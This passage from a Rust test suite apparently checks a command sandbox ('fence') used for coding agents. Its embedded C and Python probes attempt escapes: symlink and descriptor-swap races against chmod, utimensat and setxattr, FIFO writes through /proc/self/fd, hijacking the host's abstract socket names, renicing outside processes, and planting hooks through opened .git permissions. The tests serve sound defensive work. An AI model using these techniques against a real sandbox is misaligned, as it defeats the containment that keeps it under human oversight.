    w.own(&host);
    let created = Path::new("/dev/shm").join(format!("{name}-new"));
    let out = w.run(&[
        "/bin/sh",
        "-c",
        &format!(
            "cat {h}; echo SANDBOX > {h}; echo new > {c}; ls /dev/shm > /dev/null && echo listed",
            h = host.display(),
            c = created.display()
        ),
    ]);
    let text = std::fs::read_to_string(&host).unwrap();
    let leaked = stdout(&out).contains("HOST-OBJECT");
    let made = created.exists();
    let _ = std::fs::remove_file(&host);
    let _ = std::fs::remove_file(&created);
    assert!(stdout(&out).contains("listed"), "{}", stderr(&out));
    assert_eq!(text, "HOST-OBJECT", "the host's object was written");
    assert!(!leaked, "the host's object was read");
    assert!(!made, "an object appeared in the host's /dev/shm");
}

/// A worktree under `/dev/shm` (a RAM-backed checkout) stays the host's and writable
/// while the rest of `/dev/shm` is the sandbox's own.
fn a_worktree_under_dev_shm_is_the_hosts_and_the_rest_private(w: &World) {
    if !private_shm_ready(
        w,
        "a_worktree_under_dev_shm_is_the_hosts_and_the_rest_private",
    ) {
        return;
    }
    let dir = tempfile::Builder::new()
        .prefix("fence-it-shm-")
        .tempdir_in("/dev/shm")
        .unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    w.own(dir.path());
    w.own(&repo);
    let host = dir.path().join("beside");
    std::fs::write(&host, "HOST").unwrap();
    let out = w
        .fence(&[
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            "echo made > made.txt && cat ../beside; echo sandbox > ../beside; ls /dev/shm".as_ref(),
        ])
        .current_dir(&repo)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(repo.join("made.txt")).unwrap(),
        "made\n",
        "the write in the worktree did not reach the host"
    );
    assert_unchanged(&host, "HOST");
    assert!(!stdout(&out).contains("HOST"), "{}", stdout(&out));
}

fn abstract_unix_names_of_the_host_cannot_be_taken(w: &World) {
    // A server under an abstract name of the host's network namespace gets the connections
    // of host programs that expect their own service there. The sandbox binds one name
    // plainly, and another while a thread flips the address between a path in the worktree
    // and the abstract name; every socket it bound stays open until the test has looked.
    let key = format!("fence-it-{}-{}", std::process::id(), w.who as u32);
    w.write(
        "probe.py",
        &format!(
            r#"import socket, ctypes, threading, os, time
libc = ctypes.CDLL(None, use_errno=True)
keep = []
s = socket.socket(socket.AF_UNIX)
try:
    s.bind(b"\0{key}-plain"); s.listen(5); keep.append(s)
except OSError as e:
    print("plain", e.errno)
path = b"\x01\x00race.sock\0"
name = b"\x01\x00\0{key}-race\0"
buf = ctypes.create_string_buffer(110)
ctypes.memmove(buf, path, len(path))
stop = []
def flip():
    while not stop:
        ctypes.memmove(buf, name, len(name)); ctypes.memmove(buf, path, len(path))
t = threading.Thread(target=flip); t.start()
for i in range(300):
    r = socket.socket(socket.AF_UNIX)
    if libc.bind(r.fileno(), buf, 2 + len("race.sock")) == 0:
        keep.append(r)
        if os.path.exists("race.sock"):
            os.unlink("race.sock")
stop.append(1); t.join()
open("ready", "w").write("ready\n")
while not os.path.exists("end"):
    time.sleep(0.02)
"#
        ),
    );
    let mut child = w
        .fence(&[
            "--quiet-blocks".as_ref(),
            "--".as_ref(),
            PYTHON.as_ref(),
            "probe.py".as_ref(),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // 300 binds performed by fence: seconds here, minutes on an emulated CPU (vm-tests).
    let deadline = Instant::now() + Duration::from_secs(240);
    while !w.worktree.join("ready").exists()
        && Instant::now() < deadline
        && child.try_wait().unwrap().is_none()
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    let ready = w.worktree.join("ready").exists();
    // From the host: the host's abstract names, and a connect to the plain one.
    let table = std::fs::read_to_string("/proc/net/unix").unwrap();
    let plain = std::os::unix::net::UnixStream::connect_addr(
        &<std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
            format!("{key}-plain").as_bytes(),
        )
        .unwrap(),
    );
    w.write("end", "");
    let _ = child.wait();
    assert!(ready, "the probe did not get through its binds");
    assert!(
        plain.is_err(),
        "the host reached a server the sandbox put under its name"
    );
    assert!(
        !table.contains(&format!("@{key}")),
        "the sandbox took an abstract name of the host"
    );
}

/// The nice value (field 19) of `pid`, read from outside.
fn nice_of(pid: u32) -> i64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    after.split_whitespace().nth(16).unwrap().parse().unwrap()
}

/// The scheduling policy (field 41 of /proc/PID/stat) of `pid`, read from outside.
fn policy_of(pid: i32) -> Option<i64> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let after = &stat[stat.rfind(')')? + 2..];
    after.split_whitespace().nth(38)?.parse().ok()
}

fn the_command_runs_under_sched_batch_unless_normal_scheduling_is_asked(w: &World) {
    for (flags, want) in [
        (&[][..], libc::SCHED_BATCH),
        (&["--normal-scheduling"][..], libc::SCHED_OTHER),
    ] {
        let mut args: Vec<&OsStr> = flags.iter().map(OsStr::new).collect();
        args.extend(["--", "/bin/sleep", "30"].map(OsStr::new));
        let mut child = w.fence(&args).stderr(Stdio::piped()).spawn().unwrap();
        let fence_pid = child.id() as i32;
        let deadline = Instant::now() + Duration::from_secs(20);
        let sleeper = loop {
            let found = descendants_of(fence_pid).into_iter().find(|p| {
                std::fs::read_to_string(format!("/proc/{p}/comm")).is_ok_and(|c| c == "sleep\n")
            });
            if found.is_some() || Instant::now() > deadline {
                break found;
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let policy = sleeper.and_then(policy_of);
        let nice = sleeper.map(|p| nice_of(p as u32));
        let fence_nice = nice_of(fence_pid as u32);
        let _ = child.kill();
        let out = child.wait_with_output().unwrap();
        let sleeper = sleeper
            .unwrap_or_else(|| panic!("the sandboxed sleep never appeared: {}", stderr(&out)));
        assert_eq!(
            policy,
            Some(i64::from(want)),
            "fence run {flags:?}: scheduling policy of the command (pid {sleeper})"
        );
        assert_eq!(nice, Some(fence_nice), "the nice value is fence's own");
    }
}

fn the_sandbox_cannot_limit_or_renice_processes_outside(w: &World) {
    // A process of the same user outside the sandbox, and fence itself: RLIMIT_CPU set on
    // a process kills it once it has used that much CPU, so a limit is as good as a signal.
    let mut victim = w.command_as_runner("/bin/sleep").arg("60").spawn().unwrap();
    let v = victim.id();
    let limits_before = std::fs::read_to_string(format!("/proc/{v}/limits")).unwrap();
    let nice_before = nice_of(v);
    let policy_before = policy_of(v as i32);
    w.write(
        "probe.py",
        r#"import os, resource, sys
while not os.path.exists("fence.pid"):
    pass
pids = [int(sys.argv[1]), int(open("fence.pid").read())]
for pid in pids:
    for lim in (resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(pid, lim, (1, 1))
        except OSError as e:
            print("prlimit", pid, e.errno)
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError as e:
        print("setpriority", pid, e.errno)
    try:
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    except OSError as e:
        print("sched_setscheduler", pid, e.errno)
try:
    os.setpriority(os.PRIO_USER, 0, 19)
except OSError as e:
    print("PRIO_USER", e.errno)
open("done", "w").write("done\n")
while not os.path.exists("end"):
    pass
"#,
    );
    let child = w
        .fence(&[
            "--".as_ref(),
            PYTHON.as_ref(),
            "probe.py".as_ref(),
            v.to_string().as_ref(),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let fence_pid = child.id();
    let fence_limits = std::fs::read_to_string(format!("/proc/{fence_pid}/limits")).unwrap();
    let fence_nice = nice_of(fence_pid);
    let fence_policy = policy_of(fence_pid as i32);
    w.write("fence.pid", &format!("{fence_pid}\n"));
    let deadline = Instant::now() + Duration::from_secs(20);
    while !w.worktree.join("done").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let fence_limits_after = std::fs::read_to_string(format!("/proc/{fence_pid}/limits"));
    let fence_nice_after = nice_of(fence_pid);
    let fence_policy_after = policy_of(fence_pid as i32);
    w.write("end", "");
    let out = child.wait_with_output().unwrap();
    let limits_after = std::fs::read_to_string(format!("/proc/{v}/limits")).unwrap();
    let nice_after = nice_of(v);
    let policy_after = policy_of(v as i32);
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(
        w.worktree.join("done").exists(),
        "the probe did not finish: {}",
        stderr(&out)
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        limits_after,
        limits_before,
        "limits of a process outside changed: {}",
        stdout(&out)
    );
    assert_eq!(nice_after, nice_before, "a process outside was reniced");
    assert_eq!(
        fence_limits_after.unwrap(),
        fence_limits,
        "fence's own limits changed"
    );
    assert_eq!(fence_nice_after, fence_nice, "fence was reniced");
    assert_eq!(
        policy_after, policy_before,
        "the scheduling policy of a process outside changed"
    );
    assert_eq!(
        fence_policy_after, fence_policy,
        "fence's scheduling policy changed"
    );
}

fn a_symlink_swapped_during_chmod_never_changes_an_outside_file(w: &World) {
    let test = "a_symlink_swapped_during_chmod_never_changes_an_outside_file";
    if !cc_ready(test) {
        return;
    }
    let victim = w.write_outside("victim.txt", "original");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    let inside = w.write("target.txt", "mine");
    let src = format!(
        r#"#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static volatile int stop;
static void *swap(void *arg) {{
    (void)arg;
    while (!stop) {{
        symlink("{victim}", "lnk.tmp"); rename("lnk.tmp", "lnk");
        symlink("{inside}", "lnk.tmp"); rename("lnk.tmp", "lnk");
    }}
    return 0;
}}
int main(void) {{
    pthread_t t;
    int ok = 0, refused = 0;
    symlink("{inside}", "lnk");
    pthread_create(&t, 0, swap, 0);
    for (int i = 0; i < 3000; i++) {{
        if (chmod("lnk", 0777) == 0) ok++; else refused++;
    }}
    stop = 1;
    pthread_join(t, 0);
    printf("%d %d\n", ok, refused);
    return 0;
}}
"#,
        victim = victim.display(),
        inside = inside.display()
    );
    let bin = w.compile_c("swap", &src);
    let out = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::metadata(&victim).unwrap().mode() & 0o777,
        0o644,
        "outside file's mode changed"
    );
    let counts: Vec<u32> = stdout(&out)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] > 0,
        "race not exercised: {counts:?}"
    );
}

/// An open of `/proc/self/fd/N` on a pipe (`/dev/stdout` in a pipeline) is carried out by
/// the supervisor, outside Landlock. A thread swapping descriptor N between a pipe and a
/// named FIFO outside the worktree (held with `O_PATH`) during 5,000 such opens never gets
/// the FIFO opened for writing: its reader, outside, receives nothing.
fn a_named_fifo_swapped_behind_a_pipes_descriptor_link_gets_nothing_written(w: &World) {
    let test = "a_named_fifo_swapped_behind_a_pipes_descriptor_link_gets_nothing_written";
    if !cc_ready(test) {
        return;
    }
    let fifo = w.outside.join("host.fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o666)).unwrap();
    w.own(&fifo);
    std::fs::set_permissions(&fifo, std::fs::Permissions::from_mode(0o666)).unwrap();
    // The host's reader, open before the sandbox starts (a writer's open then succeeds).
    use std::os::unix::fs::OpenOptionsExt;
    let reader = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&fifo)
        .unwrap();
    let src = r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static int fifo, pipe_w;
static volatile int stop;
static void *swap(void *arg) {
    (void)arg;
    while (!stop) { dup2(pipe_w, 10); dup2(fifo, 10); }
    return 0;
}
int main(int argc, char **argv) {
    int p[2];
    if (argc < 2 || pipe(p) != 0) return 2;
    pipe_w = p[1];
    fifo = open(argv[1], O_PATH);
    if (fifo < 0) { perror("open fifo"); return 2; }
    struct stat pst;
    fstat(pipe_w, &pst);
    pthread_t t;
    pthread_create(&t, 0, swap, 0);
    int pipes = 0, others = 0;
    for (int i = 0; i < 5000; i++) {
        int fd = open("/proc/self/fd/10", O_WRONLY | O_NONBLOCK);
        if (fd < 0) continue;
        struct stat st;
        fstat(fd, &st);
        if (st.st_ino == pst.st_ino) pipes++;
        else { others++; (void)!write(fd, "escaped\n", 8); }
        close(fd);
        /* Drain the pipe now and then so that it never fills. */
        if (i % 512 == 0) { char buf[4096]; fcntl(p[0], F_SETFL, O_NONBLOCK); while (read(p[0], buf, sizeof buf) > 0) {} }
    }
    stop = 1;
    pthread_join(t, 0);
    printf("%d %d\n", pipes, others);
    return 0;
}
"#;
    let bin = w.compile_c("fiforace", src);
    let out = w
        .fence(&[
            "--quiet-blocks".as_ref(),
            "--".as_ref(),
            bin.as_os_str(),
            fifo.as_os_str(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let mut got = Vec::new();
    let _ = std::io::Read::read_to_end(&mut &reader, &mut got);
    assert!(
        got.is_empty(),
        "the FIFO outside received {:?} ({})",
        String::from_utf8_lossy(&got),
        stdout(&out)
    );
    let counts: Vec<u32> = stdout(&out)
        .split_whitespace()
        .filter_map(|n| n.parse().ok())
        .collect();
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] == 0,
        "pipe reopens and other objects reached: {counts:?}"
    );
}

/// Descriptors fence was started with (its standard streams) are the host's: a file in
/// the host's /dev/shm as stdout reads, in the sandbox's view, as a path of its own private
/// /dev/shm. No metadata change made through it — `fchmod`, `futimens`, `chmod` or `utime`
/// of `/proc/self/fd/1` or `/dev/stdout` — reaches the host's file. (A folder as a standard
/// descriptor is refused at start.)
fn metadata_through_descriptors_from_outside_changes_nothing_outside(w: &World) {
    let test = "metadata_through_descriptors_from_outside_changes_nothing_outside";
    if !python_ready(test) || !private_shm_ready(w, test) {
        return;
    }
    let shm = tempfile::Builder::new()
        .prefix("fence-it-")
        .tempdir_in("/dev/shm")
        .unwrap();
    let dir = shm.path().to_path_buf();
    w.own(&dir);
    let out_log = dir.join("out.log");
    std::fs::write(&out_log, "host\n").unwrap();
    w.own(&out_log);
    std::fs::set_permissions(&out_log, std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = |p: &Path| {
        let m = std::fs::metadata(p).unwrap();
        let xattr = xattr_names(p);
        (m.mode() & 0o7777, m.mtime(), xattr)
    };
    let log_before = before(&out_log);
    w.write(
        "meta.py",
        r#"import os, sys
done = []
def attempt(name, f):
    try:
        f()
        done.append(name)
    except OSError:
        pass
attempt("fchmod", lambda: os.fchmod(1, 0o606))
attempt("futimens", lambda: os.utime(1, (5, 5)))
attempt("chmod-link", lambda: os.chmod("/proc/self/fd/1", 0o666))
attempt("utime-link", lambda: os.utime("/proc/self/fd/1", (6, 6)))
attempt("chmod-dev-stdout", lambda: os.chmod("/dev/stdout", 0o666))
attempt("xattr-link", lambda: os.setxattr("/proc/self/fd/1", "user.fence", b"x"))
sys.stderr.write("ran " + " ".join(done) + "\n")
"#,
    );
    let stdout_file = std::fs::OpenOptions::new()
        .append(true)
        .open(&out_log)
        .unwrap();
    let out = w
        .fence(&[
            "--quiet-blocks".as_ref(),
            "--".as_ref(),
            PYTHON.as_ref(),
            "meta.py".as_ref(),
        ])
        .stdout(stdout_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("ran"), "{}", stderr(&out));
    assert_eq!(
        before(&out_log),
        log_before,
        "the host's file behind stdout changed ({})",
        stderr(&out)
    );
}

/// The names of `path`'s extended attributes (listxattr), sorted.
fn xattr_names(path: &Path) -> Vec<Vec<u8>> {
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    let mut buf = vec![0u8; 4096];
    // SAFETY: a NUL-terminated path and a buffer of the given size.
    let n = unsafe { libc::listxattr(c.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    if n <= 0 {
        return Vec::new();
    }
    let mut names: Vec<Vec<u8>> = buf[..n as usize]
        .split(|b| *b == 0)
        .filter(|n| !n.is_empty())
        .map(<[u8]>::to_vec)
        .collect();
    names.sort();
    names
}

/// A thread swapping descriptor 10 between a file in the worktree and fence's own stdout (a
/// file outside the worktree) while `chmod("/proc/self/fd/10")` runs 3,000 times never
/// changes the outside file's mode.
fn a_thread_swapping_a_descriptor_during_chmod_never_changes_an_outside_file(w: &World) {
    let test = "a_thread_swapping_a_descriptor_during_chmod_never_changes_an_outside_file";
    if !cc_ready(test) {
        return;
    }
    let log = w.write_outside("out.log", "");
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o600)).unwrap();
    w.write("inside.txt", "mine");
    let src = r#"#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
static int inside, outside;
static volatile int stop;
static void *swap(void *arg) {
    (void)arg;
    while (!stop) { dup2(inside, 10); dup2(outside, 10); }
    return 0;
}
int main(void) {
    inside = open("inside.txt", O_RDONLY);
    outside = dup(1);
    if (inside < 0 || outside < 0) return 2;
    pthread_t t;
    pthread_create(&t, 0, swap, 0);
    int ok = 0, refused = 0;
    for (int i = 0; i < 3000; i++) {
        if (chmod("/proc/self/fd/10", 0666) == 0) ok++; else refused++;
    }
    stop = 1;
    pthread_join(t, 0);
    fprintf(stderr, "counts %d %d\n", ok, refused);
    return 0;
}
"#;
    let bin = w.compile_c("fdswap", src);
    let stdout_file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    let out = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .stdout(stdout_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::metadata(&log).unwrap().mode() & 0o7777,
        0o600,
        "the outside file's mode changed ({})",
        stderr(&out)
    );
    assert_race_exercised(&out);
}

/// A race program's stderr line `counts OK REFUSED`: both kinds of outcome happened, so the
/// swap was seen by the check on both sides.
fn assert_race_exercised(out: &std::process::Output) {
    let counts: Vec<u32> = stderr(out)
        .lines()
        .find_map(|l| l.strip_prefix("counts "))
        .map(|l| {
            l.split_whitespace()
                .filter_map(|n| n.parse().ok())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] > 0,
        "race not exercised: {counts:?} ({})",
        stderr(out)
    );
}

/// A thread swaps the path buffer of chmod, utimensat and setxattr between a file inside
/// (an absolute path through no magic link, which the check allows) and
/// `/proc/self/fd/1`, whose object is a file outside handed in as stdout: were the call
/// left to the kernel after the check, it would read the swapped path and change the
/// outside file (its mode, times or extended attributes), which no read-only mount bounds.
fn a_path_swapped_to_a_descriptor_link_during_metadata_changes_nothing_outside(w: &World) {
    let test = "a_path_swapped_to_a_descriptor_link_during_metadata_changes_nothing_outside";
    if !cc_ready(test) {
        return;
    }
    let log = w.write_outside("meta.log", "");
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = std::fs::metadata(&log).unwrap();
    let inside = w.write("meta-inside.txt", "mine");
    let src = r#"#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>
static char buf[4096];
static char good[4096];
static const char *bad = "/proc/self/fd/1";
static volatile int stop;
static void *swap(void *arg) {
    (void)arg;
    while (!stop) {
        strcpy(buf, good);
        for (volatile int i = 0; i < 50; i++) {}
        strcpy(buf, bad);
        for (volatile int i = 0; i < 50; i++) {}
    }
    return 0;
}
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    snprintf(good, sizeof good, "%s", argv[1]);
    strcpy(buf, good);
    pthread_t t;
    pthread_create(&t, 0, swap, 0);
    int ok = 0, refused = 0;
    struct timespec old[2] = {{86400, 0}, {86400, 0}};
    for (int i = 0; i < 6000; i++) {
        int r;
        switch (i % 3) {
        case 0: r = chmod(buf, 0606); break;
        case 1: r = utimensat(AT_FDCWD, buf, old, 0); break;
        default: r = setxattr(buf, "user.fence_test", "x", 1, 0); break;
        }
        if (r == 0) ok++; else refused++;
    }
    stop = 1;
    pthread_join(t, 0);
    fprintf(stderr, "counts %d %d\n", ok, refused);
    return 0;
}
"#;
    let bin = w.compile_c("metaswap", src);
    let stdout_file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    let out = w
        .fence(&[
            "--quiet-blocks".as_ref(),
            "--".as_ref(),
            bin.as_os_str(),
            inside.as_os_str(),
        ])
        .stdout(stdout_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let after = std::fs::metadata(&log).unwrap();
    assert_eq!(
        after.mode() & 0o7777,
        0o600,
        "the outside file's mode changed ({})",
        stderr(&out)
    );
    assert_eq!(
        after.mtime(),
        before.mtime(),
        "the outside file's times changed ({})",
        stderr(&out)
    );
    assert!(
        xattr_names(&log).iter().all(|n| n != b"user.fence_test"),
        "an extended attribute was set on the outside file ({})",
        stderr(&out)
    );
    assert_race_exercised(&out);
}

/// fence started with `>> log`: the log handed in for appending stays append-only. The
/// sandbox tries to cut it (`ftruncate`), punch a hole (`fallocate`), clear `O_APPEND`
/// (the call succeeds, `O_APPEND` stays) and write at offset 0, and write at an offset
/// with `pwritev2(RWF_NOAPPEND)`; what the log held before is still there, byte for byte,
/// and what it wrote follows. The same calls on a file of the worktree work, and
/// `O_NONBLOCK` can still be set on stdin.
fn a_log_handed_in_for_appending_keeps_what_it_held(w: &World) {
    let test = "a_log_handed_in_for_appending_keeps_what_it_held";
    if !cc_ready(test) {
        return;
    }
    let before = "earlier lines of the log\n".repeat(200);
    let log = w.write_outside("append.log", &before);
    let src = r#"#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/uio.h>
#include <unistd.h>
#ifndef RWF_NOAPPEND
#define RWF_NOAPPEND 0x20
#endif
int main(void) {
    int t = ftruncate(1, 6);
    int p = fallocate(1, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096);
    int flags = fcntl(1, F_GETFL);
    int c = fcntl(1, F_SETFL, flags & ~O_APPEND);
    int kept = (fcntl(1, F_GETFL) & O_APPEND) != 0;
    /* FS_IOC_UNRESVSP64: a punch through the generic ioctl (struct space_resv). */
    long long resv[6] = {0, 0, 4096, 0, 0, 0};
    int u = ioctl(1, 0x4030582b, resv);
    pwrite(1, "OVERWRITTEN", 11, 0);
    struct iovec v = {"NOAPPEND", 8};
    int n = pwritev2(1, &v, 1, 0, RWF_NOAPPEND);
    write(1, "appended\n", 9);
    /* The same calls inside the worktree, and O_NONBLOCK on stdin. */
    int fd = open("inside.bin", O_RDWR | O_CREAT | O_APPEND, 0644);
    write(fd, "0123456789", 10);
    int ti = ftruncate(fd, 4);
    int ci = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_APPEND);
    int nb = fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
    fprintf(stderr, "outside %d %d %d %d %d kept %d inside %d %d stdin %d\n", t, p, c, n, u, kept, ti, ci, nb);
    return 0;
}
"#;
    let bin = w.compile_c("appendonly", src);
    let stdout_file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    let (reader, writer) = std::io::pipe().unwrap();
    let out = w
        .fence(&["--quiet-blocks".as_ref(), "--".as_ref(), bin.as_os_str()])
        .stdin(Stdio::from(reader.try_clone().unwrap()))
        .stdout(stdout_file)
        .output()
        .unwrap();
    drop(writer);
    assert!(out.status.success(), "{}", stderr(&out));
    let after = std::fs::read(&log).unwrap();
    assert!(
        after.starts_with(before.as_bytes()),
        "the log lost or changed what it held ({} bytes, starting {:?}): {}",
        after.len(),
        String::from_utf8_lossy(&after[..after.len().min(40)]),
        stderr(&out)
    );
    // On a file opened for appending, pwrite appends whatever offset it names.
    assert_eq!(
        &after[before.len()..],
        b"OVERWRITTENappended\n",
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("outside -1 -1 0 -1 -1 kept 1 inside 0 0 stdin 0"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read(w.worktree.join("inside.bin")).unwrap(),
        b"0123"
    );
    // fence put the shared pipe's status flags back: its other end is not left
    // non-blocking for whoever reads it next.
    // SAFETY: F_GETFL on a descriptor the test owns.
    let flags = unsafe { libc::fcntl(reader.as_raw_fd(), libc::F_GETFL) };
    assert_eq!(flags & libc::O_NONBLOCK, 0, "stdin was left non-blocking");
}

/// Making `.git`, the worktree or an agent's settings folder writable by other accounts
/// (a mode with group or other write, an ACL) is asked, as a write to the hooks it holds
/// is: another account could then put its own hooks in, which run as the user. Modes that
/// open nothing to others still change.
fn folders_holding_protected_paths_are_not_opened_to_other_accounts(w: &World) {
    git(&w.worktree, &["init", "-q"]);
    chown_tree(w, &w.worktree.join(".git"));
    for dir in [".claude", "src"] {
        std::fs::create_dir_all(w.worktree.join(dir)).unwrap();
        w.own(&w.worktree.join(dir));
    }
    let mode = |rel: &str| std::fs::metadata(w.worktree.join(rel)).unwrap().mode() & 0o7777;
    let before = [mode(".git"), mode("."), mode(".claude")];
    let out = w.python(
        "import os\n\
         for p, m in [('.git', 0o777), ('.', 0o777), ('.claude', 0o775)]:\n\
         \x20   try:\n\
         \x20       os.chmod(p, m)\n\
         \x20       print('changed', p)\n\
         \x20   except OSError as e:\n\
         \x20       print('refused', p, e.errno)\n\
         import struct\n\
         acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, 7, 0xFFFFFFFF) for t in (1, 4, 0x20))\n\
         try:\n\
         \x20   os.setxattr('.git', 'system.posix_acl_access', acl)\n\
         \x20   print('changed acl')\n\
         except OSError as e:\n\
         \x20   print('refused acl', e.errno)\n\
         os.chmod('.', 0o750)\n\
         os.chmod('src', 0o777)\n\
         os.umask(0)\n\
         os.mkdir('.gemini', 0o777)\n\
         os.mkdir('plain', 0o777)\n\
         print('ok')\n",
    );
    let text = stdout(&out);
    assert!(text.contains("refused .git 1"), "{text}{}", stderr(&out));
    assert!(text.contains("refused . 1"), "{text}{}", stderr(&out));
    assert!(text.contains("refused .claude 1"), "{text}{}", stderr(&out));
    assert!(text.contains("refused acl 1"), "{text}{}", stderr(&out));
    assert!(text.ends_with("ok\n"), "{text}{}", stderr(&out));
    assert_eq!(mode(".git"), before[0]);
    assert_eq!(mode(".claude"), before[2]);
    assert_eq!(
        mode("."),
        0o750,
        "a mode that opens nothing to others changes"
    );
    assert_eq!(
        mode("src"),
        0o777,
        "an ordinary folder's mode is the sandbox's"
    );
    // Made with a mode and umask that open it to all: a folder holding protected paths
    // is made without group or other write, an ordinary one as asked.
    assert_eq!(mode(".gemini"), 0o755);
    assert_eq!(mode("plain"), 0o777);
    assert!(xattr_names(&w.worktree.join(".git")).is_empty());
}

/// A datagram socket made outside and handed to fence as a standard stream could send to
/// any address with `sendmsg`: fence does not start (125), naming it, and the listener it
/// could have reached receives nothing.
fn a_datagram_socket_handed_in_from_outside_is_refused_at_start(w: &World) {
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let handed = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let out = w
        .fence(&[
            "--".as_ref(),
            PYTHON.as_ref(),
            "-c".as_ref(),
            format!(
                "import socket\ns = socket.socket(fileno=1)\ns.sendmsg([b'out'], [], 0, ('127.0.0.1', {port}))\n"
            )
            .as_ref(),
        ])
        .stdout(Stdio::from(std::os::fd::OwnedFd::from(handed)))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("datagram or raw socket (AF_INET)"),
        "{}",
        stderr(&out)
    );
    let mut buf = [0u8; 16];
    assert!(
        listener.recv(&mut buf).is_err(),
        "a datagram reached the listener"
    );
    // A stream socket passes (it sends only to its peer).
    let (a, _b) = std::os::unix::net::UnixStream::pair().unwrap();
    let out = w
        .fence(&["--".as_ref(), "true".as_ref()])
        .stdout(Stdio::from(std::os::fd::OwnedFd::from(a)))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

fn datagram_to_an_outside_unix_socket_gets_nothing_through(w: &World) {
    let path = w.outside.join("log.sock");
    let sock = std::os::unix::net::UnixDatagram::bind(&path).unwrap();
    w.own(&path);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    sock.set_nonblocking(true).unwrap();
    let out = w.python(&format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n    s.sendto(b'hello', {p:?})\nexcept OSError as e:\n    print('refused', e.errno)\n",
        p = path.display().to_string()
    ));
    let mut buf = [0u8; 16];
    assert!(
        sock.recv(&mut buf).is_err(),
        "a datagram reached the outside socket"
    );
    // Unix datagram sockets are refused outright (they could name any destination in
    // sendmsg, which is not notified): EACCES at socket creation.
    assert_eq!(stdout(&out), "refused 13\n", "{}", stderr(&out));
}

fn loopback_server_started_inside_is_usable(w: &World) {
    let out = w.python(
        "import socket, threading\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 0))\nsrv.listen(1)\nport = srv.getsockname()[1]\nc = socket.create_connection(('127.0.0.1', port))\nconn, _ = srv.accept()\nc.send(b'pong')\nprint(conn.recv(4).decode())\n",
    );
